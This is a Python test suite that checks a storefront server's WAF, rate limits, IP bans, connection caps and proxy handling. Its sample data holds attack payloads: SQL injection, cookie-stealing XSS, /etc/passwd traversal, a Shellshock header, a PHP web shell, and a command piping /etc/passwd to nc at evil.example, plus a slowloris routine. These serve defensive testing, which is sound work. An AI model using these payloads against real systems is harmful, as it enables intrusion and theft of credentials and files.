#!/usr/bin/env python3
"""edge_test.py — edge protection against the real storefort binary (TAP output).

The WAF in block mode (SQLi, XSS, path traversal, RCE and PHP injection samples in the
query string, a form body, a JSON body, multipart, cookies and headers -> 403 with the
request id, JSON under /api/ and HTML elsewhere), the WAF log (one JSON line per matched
rule, redacted), detect mode, reloading rules on SIGHUP without dropping a connection,
rate limits (429 + Retry-After), bans (threshold, refused at accept, allow list, longer on
repeat, `storefort bans list|lift`, audited), connection caps, slow and oversized
requests, and the client address behind trusted proxies (and a forged X-Forwarded-For
from an untrusted peer).  Other loopback addresses (127.0.0.x) play other clients.
"""
import argparse
import json
import os
import shutil
import signal
import socket
import sqlite3
import ssl
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import app_test as A  # noqa: E402  (CLI, Server, check, tls_ctx)

check = A.check
UA = 'Mozilla/5.0 (edge tests)'


def conn(port, src='127.0.0.1', timeout=10):
    s = socket.create_connection(('127.0.0.1', port), timeout=timeout, source_address=(src, 0))
    return A.tls_ctx().wrap_socket(s, server_hostname='localhost')


def read_response(s):
    """Read one response (Content-Length framed); returns (status, headers, body)."""
    buf = b''
    while b'\r\n\r\n' not in buf:
        b = s.recv(65536)
        if not b:
            break
        buf += b
    head, _, body = buf.partition(b'\r\n\r\n')
    lines = head.decode('latin-1').split('\r\n')
    try:
        status = int(lines[0].split()[1])
    except (IndexError, ValueError):
        return 0, {}, b''
    h = {}
    for l in lines[1:]:
        k, _, v = l.partition(':')
        h[k.strip().lower()] = v.strip()
    n = int(h.get('content-length', '0'))
    while len(body) < n:
        b = s.recv(65536)
        if not b:
            break
        body += b
    return status, h, body


def req(port, path, method='GET', headers=None, body=None, src='127.0.0.1', sock=None):
    """One request; a new connection unless sock is given.  status 0: refused/closed."""
    h = {'Host': 'localhost', 'User-Agent': UA, 'Accept': '*/*'}
    if sock is None:
        h['Connection'] = 'close'
    h.update(headers or {})
    if body is not None:
        h['Content-Length'] = str(len(body))
    data = ('%s %s HTTP/1.1\r\n' % (method, path) + ''.join('%s: %s\r\n' % kv for kv in h.items()) +
            '\r\n').encode('latin-1') + (body or b'')
    own = sock is None
    try:
        s = sock or conn(port, src)
        s.sendall(data)
        r = read_response(s)
    except (OSError, ssl.SSLError):
        return 0, {}, b''
    if own:
        s.close()
    return r


def waf_events(d):
    p = os.path.join(d, 'log', 'waf.log')
    if not os.path.exists(p):
        return []
    with open(p, encoding='utf-8') as f:
        return [json.loads(l) for l in f if l.strip()]


def access_lines(d):
    with open(os.path.join(d, 'log', 'access.log'), encoding='utf-8') as f:
        return [json.loads(l) for l in f if l.strip()]


def multipart(name, value):
    b = 'xYzBoUnDaRy'
    body = ('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n--%s--\r\n' % (b, name, value, b))
    return body.encode(), 'multipart/form-data; boundary=' + b


# A header each CRS rule family inspects at paranoia 1.
HEADER_SAMPLES = {
    'sqli': ('Referer', "1' UNION SELECT username, password FROM users--"),
    'xss': ('Referer', '<script>alert(document.cookie)</script>'),
    'traversal': ('X-Path', '../../../../etc/passwd'),
    'rce': ('User-Agent', '() { :; }; /bin/bash -c "cat /etc/passwd"'),
    'php': ('X-Filename', 'shell.php'),
}

SAMPLES = {
    'sqli': "1' UNION SELECT username, password FROM users--",
    'xss': '<script>alert(document.cookie)</script>',
    'traversal': '../../../../etc/passwd',
    'rce': '; cat /etc/passwd | nc evil.example 4444',
    'php': '<?php system($_GET["c"]); ?>',
}


def test_block(srv, d):
    P = srv.https
    for kind, v in SAMPLES.items():
        q = v.replace('%', '%25').replace(' ', '%20').replace('#', '%23').replace('&', '%26') \
             .replace('<', '%3C').replace('>', '%3E').replace('"', '%22').replace("'", '%27') \
             .replace(';', '%3B').replace('|', '%7C').replace('$', '%24').replace('?', '%3F')
        places = {
            'query': dict(path='/api/v1/products?q=' + q),
            'form body': dict(path='/search', method='POST', body=('q=' + q).encode(),
                              headers={'Content-Type': 'application/x-www-form-urlencoded'}),
            'JSON body': dict(path='/api/v1/products', method='POST', body=json.dumps({'q': v}).encode(),
                              headers={'Content-Type': 'application/json'}),
            'cookie': dict(path='/', headers={'Cookie': 'pref=' + q}),
            'header': dict(path='/', headers=dict([HEADER_SAMPLES[kind]])),
        }
        body, ct = multipart('q', v)
        places['multipart'] = dict(path='/search', method='POST', body=body, headers={'Content-Type': ct})
        for place, kw in places.items():
            st, h, b = req(P, **kw)
            check('WAF blocks %s in the %s: 403 with the request id' % (kind, place),
                  st == 403 and h.get('x-request-id', 'x').encode() in b, (st, b[:200]))
    st, h, b = req(P, '/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E')
    j = A.jbody(b)
    check('block under /api/: JSON error request_blocked with the request id',
          st == 403 and j and j['error']['code'] == 'request_blocked' and
          j['error']['request_id'] == h.get('x-request-id'), b[:200])
    st, h, b = req(P, '/search?q=%3Cscript%3Ealert(1)%3C/script%3E')
    check('block elsewhere: an HTML page with the request id',
          st == 403 and h.get('content-type', '').startswith('text/html') and h['x-request-id'].encode() in b,
          (st, h))
    rid = h.get('x-request-id')
    time.sleep(0.3)
    ev = [e for e in waf_events(d) if e['request_id'] == rid]
    rules = [e for e in ev if 'rule_id' in e]
    check('WAF log: the matched rules of that request, in order, as JSON lines with id, phase, message',
          len(rules) >= 2 and all(isinstance(e['rule_id'], int) and e['phase'] in (1, 2) and e['msg']
                                  for e in rules), ev)
    check('WAF log: the verdict follows the rules', ev and ev[-1].get('action') == 'blocked' and
          ev[-1]['status'] == 403 and ev[-1]['events'] == len(rules), ev[-1:])
    st, h, b = req(P, '/search', method='POST', headers={'Content-Type': 'application/x-www-form-urlencoded'},
                   body=b"q=ok&password=%27%20OR%201%3D1--%20SeCrEt9&session_token=x%27%20UNION%20SELECT%201--")
    time.sleep(0.3)
    blob = open(os.path.join(d, 'log', 'waf.log'), encoding='utf-8').read()
    rid = h.get('x-request-id', '-')
    check('an attack in a password field is blocked and logged', st == 403 and rid in blob, st)
    check('WAF log redacts secret-named values', 'SeCrEt9' not in blob and '[redacted]' in blob)
    st, h, b = req(P, '/static/app.css?x=%3Cscript%3Ealert(1)%3C/script%3E')
    check('embedded static assets are not inspected', st == 200, st)
    st, h, b = req(P, '/api/v1/products?q=shirt')
    check('a benign request passes', st == 200, st)
    con = sqlite3.connect(os.path.join(d, 'db', 'storefort.db'))
    n = con.execute("SELECT count(*) FROM waf_events WHERE action = 'blocked'").fetchone()[0]
    con.close()
    check('WAF events kept in the database for the back office', n > 0, n)


def test_detect(cli, ini, d):
    srv = A.Server(cli, ini, env={'STOREFORT_WAF_MODE': 'detect'})
    try:
        st, h, b = req(srv.https, '/api/v1/products?q=%3Cscript%3Ealert(1)%3C/script%3E')
        rid = h.get('x-request-id')
        time.sleep(0.3)
        ev = [e for e in waf_events(d) if e['request_id'] == rid]
        check('detect mode: not blocked', st == 200, st)
        check('detect mode: the events are logged', ev and all(e['mode'] == 'detect' for e in ev), ev)
    finally:
        srv.stop()


def test_reload(cli, ini, d):
    extra = os.path.join(d, 'extra.conf')
    with open(extra, 'w') as f:
        f.write('# local rules\n')
    srv = A.Server(cli, ini, env={'STOREFORT_WAF_RULES_EXTRA': extra})
    try:
        P = srv.https
        s = conn(P)
        st1, _, _ = req(P, '/healthz', sock=s)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('before reload: the probe passes', st == 200 and st1 == 200, st)
        with open(extra, 'w') as f:
            f.write('SecRule ARGS:probe "@streq edge-reload-marker" '
                    '"id:1009001,phase:2,deny,status:403,log,msg:\'local rule\'"\n')
        srv.proc.send_signal(signal.SIGHUP)
        time.sleep(3)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('after SIGHUP: the new local rule blocks', st == 403, st)
        st2, _, _ = req(P, '/healthz', sock=s)
        check('a keep-alive connection opened before the reload still works', st2 == 200, st2)
        s.close()
        with open(extra, 'w') as f:
            f.write('NotADirective On\n')
        srv.proc.send_signal(signal.SIGHUP)
        time.sleep(3)
        st, _, _ = req(P, '/api/v1/products?probe=edge-reload-marker')
        check('a broken rule file on reload keeps the old rules', st == 403 and srv.proc.poll() is None, st)
    finally:
        srv.stop()


def test_ratelimit_and_bans(cli, ini, d):
    env = {'STOREFORT_RATELIMIT_READ': '5/60', 'STOREFORT_BANS_WAF_BLOCKS': '3',
           'STOREFORT_BANS_RATE_LIMIT_HITS': '4', 'STOREFORT_BANS_DURATION': '60',
           'STOREFORT_BANS_ALLOW': '127.0.0.1'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        sts = [req(P, '/api/v1/products', src='127.0.0.7')[0] for _ in range(5)]
        st, h, b = req(P, '/api/v1/products', src='127.0.0.7')
        check('rate limit: 5 reads pass, the 6th is 429 with Retry-After',
              sts == [200] * 5 and st == 429 and int(h.get('retry-after', '0')) >= 1, (sts, st, h))
        check('rate limit: other addresses are not affected', req(P, '/api/v1/products', src='127.0.0.8')[0] == 200)
        check('health checks are not rate limited', all(req(P, '/healthz', src='127.0.0.7')[0] == 200
                                                          for _ in range(8)))
        for _ in range(3):
            req(P, '/api/v1/products', src='127.0.0.7')
        time.sleep(0.5)
        st, _, _ = req(P, '/healthz', src='127.0.0.7')
        check('repeated rate-limit hits ban the address (refused at accept)', st == 0, st)
        # WAF blocks
        for _ in range(3):
            st, _, _ = req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E', src='127.0.0.9')
        time.sleep(0.5)
        check('WAF blocks past the threshold ban the address', req(P, '/healthz', src='127.0.0.9')[0] == 0)
        check('other clients keep being served', req(P, '/healthz', src='127.0.0.10')[0] == 200)
        for _ in range(6):
            req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E')
        time.sleep(0.5)
        check('an allow-listed address is never banned', req(P, '/healthz')[0] == 200)
        rc, out, err = cli.run('--config', ini, 'bans', 'list')
        check('bans list shows both addresses', rc == 0 and '127.0.0.7' in out and '127.0.0.9' in out and
              'waf_blocks' in out and 'rate_limit_hits' in out, (rc, out, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', '127.0.0.9')
        check('bans lift ADDRESS', rc == 0 and 'lifted' in out, (rc, out, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', '127.0.0.9')
        check('bans lift of an address not banned: exit 1 naming it', rc == 1 and '127.0.0.9' in err, (rc, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'lift', 'not-an-ip')
        check('bans lift with a bad address: usage error', rc == 2, (rc, err))
        rc, out, err = cli.run('--config', ini, 'bans', 'frobnicate')
        check('bans with an unknown subcommand: usage error', rc == 2, (rc, err))
        rc, out, err = cli.run('bans', '--help')
        check('bans --help', rc == 0 and 'lift ADDRESS' in out, (rc, out))
        time.sleep(3)
        check('the running server applies the lift', req(P, '/healthz', src='127.0.0.9')[0] == 200)
        for _ in range(3):
            req(P, '/healthz?q=%3Cscript%3Ealert(1)%3C/script%3E', src='127.0.0.9')
        time.sleep(0.5)
        con = sqlite3.connect(os.path.join(d, 'db', 'storefort.db'))
        row = con.execute("SELECT strikes, until_at - banned_at FROM edge_bans WHERE ip = '127.0.0.9'").fetchone()
        acts = [r[0] for r in con.execute("SELECT action FROM audit_events WHERE action LIKE 'edge.%'")]
        con.close()
        check('a repeat ban lasts longer', row == (2, 120), row)
        check('every ban and lift is audited', acts.count('edge.ban') == 3 and acts.count('edge.ban_lift') == 1,
              acts)
        rc, out, err = cli.run('--config', ini, 'audit', 'verify')
        check('the audit chain verifies after bans', rc == 0, (rc, out, err))
    finally:
        srv.stop()
    for ip in ('127.0.0.7', '127.0.0.9'):
        cli.run('--config', ini, 'bans', 'lift', ip)


def test_connections(cli, ini, d):
    env = {'STOREFORT_SERVER_TIMEOUT': '3', 'STOREFORT_SERVER_MAX_CONNECTIONS_PER_IP': '4'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        held = [conn(P, '127.0.0.11') for _ in range(4)]
        st, _, _ = req(P, '/healthz', src='127.0.0.11')
        check('per-address connection cap: the next connection is refused', st in (0, 503), st)
        check('per-address cap: other addresses are served', req(P, '/healthz', src='127.0.0.12')[0] == 200)
        for s in held:
            s.close()
        # slowloris: one byte a second never completes the headers
        s = conn(P, '127.0.0.13')
        t0 = time.time()
        closed = False
        served = None
        for i, ch in enumerate(b'GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ' + b'a' * 40):
            try:
                s.send(bytes([ch]))
            except (OSError, ssl.SSLError):
                closed = True
                break
            if i == 2:
                served = req(P, '/healthz', src='127.0.0.14')[0]
            time.sleep(0.5)
            if time.time() - t0 > 12:
                break
        if not closed:
            try:
                s.settimeout(2)
                closed = s.recv(100) == b''
            except (OSError, ssl.SSLError):
                closed = True
        check('slowloris: the slow connection is closed by the timeout', closed and time.time() - t0 < 12,
              time.time() - t0)
        check('slowloris: other clients are served meanwhile', served == 200, served)
        st, _, _ = req(P, '/search', method='POST', body=b'q=' + b'a' * (2 * 1024 * 1024),
                       headers={'Content-Type': 'application/x-www-form-urlencoded'})
        check('oversized body: refused (413, or 405 where POST has no route), never 5xx', st in (405, 413), st)
        st, _, _ = req(P, '/', headers={'X-Big': 'b' * 40000})
        check('oversized headers: refused', st in (0, 400, 413, 431), st)
        check('served after the oversized requests', req(P, '/healthz')[0] == 200)
    finally:
        srv.stop()


def test_proxy(cli, ini, d):
    srv = A.Server(cli, ini)
    try:
        rid = req(srv.https, '/healthz', headers={'X-Forwarded-For': '203.0.113.50'})[1].get('x-request-id')
        time.sleep(0.3)
        line = [l for l in access_lines(d) if l.get('request_id') == rid]
        check('untrusted peer: a forged X-Forwarded-For is ignored', line and line[0]['ip'] == '127.0.0.1', line)
    finally:
        srv.stop()
    env = {'STOREFORT_PROXY_TRUSTED': '127.0.0.0/8', 'STOREFORT_RATELIMIT_READ': '2/60'}
    srv = A.Server(cli, ini, env=env)
    try:
        P = srv.https
        rid = req(P, '/healthz', headers={'X-Forwarded-For': '6.6.6.6, 203.0.113.51, 127.0.0.3'})[1] \
            .get('x-request-id')
        time.sleep(0.3)
        line = [l for l in access_lines(d) if l.get('request_id') == rid]
        check('trusted proxy: the client is the rightmost untrusted hop (access log)',
              line and line[0]['ip'] == '203.0.113.51', line)
        sts = [req(P, '/api/v1/products', headers={'X-Forwarded-For': '198.51.100.%d' % (i % 2)})[0]
               for i in range(6)]
        check('trusted proxy: rate limits apply per resolved client', sts.count(429) == 2 and sts[:4] == [200] * 4,
              sts)
    finally:
        srv.stop()
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_PROXY_TRUSTED': '10.0.0.0/33'})
    check('a bad [proxy] trusted entry is refused naming the setting', rc == 1 and '[proxy] trusted' in err,
          (rc, err))
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_RATELIMIT_AUTH': 'lots'})
    check('a bad rate is refused naming the setting', rc == 1 and '[ratelimit] auth' in err, (rc, err))
    rc, out, err = cli.run('--config', ini, 'serve', env={'STOREFORT_WAF_MODE': 'maybe'})
    check('a bad WAF mode is refused naming the setting', rc == 1 and 'WAF_MODE' in err, (rc, err))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--binary', required=True)
    a = ap.parse_args()
    cli = A.CLI(os.path.abspath(a.binary))
    tmp = tempfile.mkdtemp(prefix='sf-edge-')
    try:
        d = os.path.join(tmp, 'data')
        rc, out, err = cli.run('init', '--dir', d, '--demo', timeout=300)
        check('init a data directory', rc == 0, (rc, err))
        ini = os.path.join(d, 'storefort.ini')
        srv = A.Server(cli, ini)
        try:
            test_block(srv, d)
        finally:
            srv.stop()
        test_detect(cli, ini, d)
        test_reload(cli, ini, d)
        test_ratelimit_and_bans(cli, ini, d)
        test_connections(cli, ini, d)
        test_proxy(cli, ini, d)
    except Exception:
        import traceback
        check('edge tests ran to the end', False, traceback.format_exc())
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    passed = sum(A.RESULTS)
    print('%d passed, %d failed' % (passed, len(A.RESULTS) - passed))
    return 0 if passed == len(A.RESULTS) else 1


if __name__ == '__main__':
    sys.exit(main())
